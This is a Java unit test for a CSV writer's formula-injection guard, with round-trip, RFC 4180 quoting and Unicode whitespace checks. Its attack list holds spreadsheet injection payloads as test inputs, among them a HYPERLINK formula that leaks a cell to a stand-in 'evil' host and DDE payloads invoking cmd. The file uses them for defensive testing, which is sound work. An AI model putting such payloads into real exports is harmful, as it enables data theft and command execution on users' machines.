package org.gongkai.disclosure.data;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Cells as a spreadsheet reads them back: a formula, in any column, arrives as text. */
class CsvWriterTest {

    /** The outside attack's payloads, and targets from the bundled Songjiang content. */
    private static final List<String> ATTACKS = List.of("=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1", "=1.00(篇/人)", "=96.00(次)",
            "=5(=cmd|' /C calc'!A0)");

    /** White space a spreadsheet skips before a formula: ASCII, ideographic, no-break and other Unicode spaces. */
    private static final List<String> LEADING_SPACES = List.of(" ", "  ", "\t", "\r", "\n", "\r\n", "\u3000",
            "\u00A0", "\u2003", "\u202F", "\u0085", "\u2028", " \u3000\t");

    static Stream<String> formulas() {
        List<String> attacks = Stream.concat(ATTACKS.stream(),
                ATTACKS.stream().map(a -> fullWidth(a.charAt(0)) + a.substring(1))).toList();
        Stream<String> spaced = LEADING_SPACES.stream().flatMap(space -> attacks.stream().map(a -> space + a));
        // A tab or a carriage return first is enough for some spreadsheets; the operator column's "=" alone is a
        // formula, and so is a number that is not plain (a sign, a space, an exponent).
        Stream<String> others = Stream.of("\tx", "\rx", "\t", "\r", "=", "+", "-", "@", "＝", "＋", "－", "＠", "+5",
                "+1.5", " -1.5", "-1.5 ", "-1,5", "-.5", "--1", "-1e5", "\u3000＋1");
        return Stream.of(attacks.stream(), spaced, others).flatMap(s -> s);
    }

    private static String fullWidth(char ascii) {
        return String.valueOf((char) (ascii - '!' + '！'));
    }

    @ParameterizedTest
    @MethodSource("formulas")
    void aCellThatASpreadsheetWouldRunAsAFormulaReadsBackWithALeadingApostrophe(String formula) throws IOException {
        assertThat(readBack(formula)).isEqualTo("'" + formula);
    }

    static Stream<String> harmless() {
        return Stream.of("85.00", "-1.5", "1012497.70", "2024", "0", "-0", "2024-01-01", "有效", "≥85.00(%)", "≥90%",
                "次", "篇/人", "Stability maintenance fund", "a=b", "x+1", "1+1", "1-2", "\nfoo", " plain", "\u3000有效",
                "", "'=already quoted", "\u22125", "numeric", "a,b", "\"quoted\"");
    }

    @ParameterizedTest
    @MethodSource("harmless")
    void aCellThatIsNoFormulaReadsBackAsItIs(String text) throws IOException {
        assertThat(readBack(text)).isEqualTo(text);
    }

    /** The guard's definition as patterns, which the writer tests character by character instead. */
    private static final Pattern FORMULA_START =
            Pattern.compile("[\t\r]|\\p{IsWhite_Space}*+[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20]");
    private static final Pattern PLAIN_NUMBER = Pattern.compile("-?[0-9]+(?:\\.[0-9]+)?");

    private static String guardedByPatterns(String cell) {
        return FORMULA_START.matcher(cell).lookingAt() && !PLAIN_NUMBER.matcher(cell).matches() ? "'" + cell : cell;
    }

    @Test
    void theGuardIsItsPatternsForEveryCharacterFirstOrAfterWhiteSpace() {
        for (char c = 0; c < Character.MAX_VALUE; c++) {
            for (String cell : new String[] {String.valueOf(c), c + "=1", c + "a", c + "" + c + "-1",
                "\u3000" + c + "@", "\u2028" + c, c + "1.5", "-" + c}) {
                assertThat(CsvWriter.guarded(cell)).as("U+%04X in %s", (int) c, cell)
                        .isEqualTo(guardedByPatterns(cell));
            }
        }
        for (String cell : List.of("-", "-1", "-1.", "-.5", "--1", "-1.5.2", "-12.50", "-1e5", "-0", "- 1",
                "-\u0661", "+1", "@1", "=1", "\uFF0D1", "\uD83D\uDE00=1", "\uD83D=1", "\t", "\r1", " \t=", "\u0085=",
                "\u00A0-1")) {
            assertThat(CsvWriter.guarded(cell)).as(cell).isEqualTo(guardedByPatterns(cell));
        }
    }

    @Test
    void aRowIsRfc4180WithTheGuardBeforeTheQuoting() {
        byte[] row = CsvWriter.row(Arrays.asList("=96.00(次)", "-1.5", "\r=1", "a,\"b\"", null, "2024"));
        assertThat(new String(row, StandardCharsets.UTF_8))
                .isEqualTo("'=96.00(次),-1.5,\"'\r=1\",\"a,\"\"b\"\"\",,2024\r\n");
    }

    /**
     * Rows of cells drawn from what matters to the writer (separators, quotes, line breaks, formula signs, white
     * space, Chinese, a pair of surrogates and halves of one) are the UTF-8 bytes of their text as RFC 4180 and the
     * guard make it, however many rows share one array.
     */
    @Test
    void rowsAreTheUtf8OfTheirTextWithEachCellGuardedAndQuoted() {
        String[] pieces = {"a", "9", ",", "\"", "\n", "\r", "\t", " ", "\u3000", "=", "+", "-", "@", "\uFF1D", "次",
            "é", "\uD83D\uDE00", "\uD83D", "\uDE00", "1.5", "'"};
        java.util.Random random = new java.util.Random(1);
        CsvWriter.Rows rows = new CsvWriter.Rows(16);
        StringBuilder expected = new StringBuilder();
        for (int r = 0; r < 2_000; r++) {
            List<String> cells = new java.util.ArrayList<>();
            for (int c = random.nextInt(5); c >= 0; c--) {
                if (random.nextInt(10) == 0) {
                    cells.add(random.nextBoolean() ? null : "");
                    continue;
                }
                StringBuilder cell = new StringBuilder();
                for (int k = random.nextInt(6); k >= 0; k--) {
                    cell.append(pieces[random.nextInt(pieces.length)]);
                }
                cells.add(cell.toString());
            }
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < cells.size(); i++) {
                String cell = cells.get(i) == null ? "" : CsvWriter.guarded(cells.get(i));
                boolean quoted = cell.contains(",") || cell.contains("\"") || cell.contains("\n")
                        || cell.contains("\r");
                text.append(i > 0 ? "," : "").append(quoted ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell);
            }
            text.append("\r\n");
            byte[] bytes = text.toString().getBytes(StandardCharsets.UTF_8);
            assertThat(CsvWriter.row(cells)).as("%s", cells).isEqualTo(bytes);
            rows.add(cells);
            expected.append(text);
        }
        assertThat(rows.toByteArray()).isEqualTo(expected.toString().getBytes(StandardCharsets.UTF_8));
    }

    /** The cell written between two others and parsed back by a CSV library. */
    private static String readBack(String cell) throws IOException {
        String text = new String(CsvWriter.row(List.of("before", cell, "after")), StandardCharsets.UTF_8);
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(text)).getRecords();
        assertThat(records).hasSize(1);
        assertThat(records.get(0).toList()).hasSize(3).startsWith("before").endsWith("after");
        return records.get(0).get(1);
    }
}
